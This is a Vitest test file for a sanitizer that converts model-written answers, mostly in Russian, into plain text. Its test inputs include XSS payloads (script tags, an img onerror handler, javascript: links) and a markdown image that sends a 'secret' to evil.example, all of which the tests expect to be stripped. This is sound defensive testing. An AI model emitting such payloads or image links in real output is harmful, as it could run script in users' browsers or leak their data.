import { expect, it } from 'vitest';
import { cleanAnswer } from './clean-answer.ts';

it.each([
  ['<b>Да</b>, есть.', 'Да, есть.'],
  ['<scr<script>x</script>ipt>alert(1)</script>Да', 'alert(1)Да'],
  ['Да<img src=x onerror=alert(1)>', 'Да'],
  ['![pixel](https://evil.example/?q=secret)Да', 'pixelДа'],
  ['[сюда](javascript:alert(1))', 'сюда)'],
  ['Откройте javascript:alert(1) сейчас', 'Откройте  сейчас'],
  ['[наш сайт](https://shop.ru)', 'наш сайт (https://shop.ru)'],
  ['[https://shop.ru](https://shop.ru)', 'https://shop.ru'],
  ['[почта](mailto:a@shop.ru)', 'почта (a@shop.ru)'],
  ['**Важно**: 2 < 3', 'Важно: 2 < 3'],
  ['## Ответ\n\n\n\nДа', 'Ответ\n\nДа'],
  ['да\u202eтен\u0000\u200b', 'датен'],
  ['👩‍🚀', '👩‍🚀'],
])('a model text %j becomes plain: %j', (written, plain) => {
  expect(cleanAnswer(written)).toBe(plain);
});

it('cuts a flood at a sentence', () => {
  const cut = cleanAnswer('Слово за слово. '.repeat(1000));
  expect(cut.length).toBeLessThanOrEqual(3000);
  expect(cut.endsWith('слово.')).toBe(true);
});
